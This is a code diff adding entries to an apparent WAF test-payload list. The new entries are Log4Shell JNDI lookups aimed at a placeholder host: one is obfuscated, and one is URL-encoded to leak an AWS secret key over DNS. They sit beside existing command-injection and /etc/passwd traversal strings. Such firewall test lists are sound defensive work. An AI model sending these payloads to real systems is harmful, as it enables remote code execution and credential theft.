@@ -98,6 +98,9 @@ export const ATTACKS: Readonly<Record<WafClass, readonly string[]>> = {
     "%u002e%u002e%u002fetc%u002fpasswd",
   ],
   cmdi: [
+    "${jndi:ldap://203.0.113.9:1389/Exploit}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/x}",
+    "%24%7Bjndi%3Adns%3A%2F%2F203.0.113.9%2F%24%7Benv%3AAWS_SECRET_ACCESS_KEY%7D%7D",
     "; cat /etc/passwd",
     "| id",
     "&& whoami",
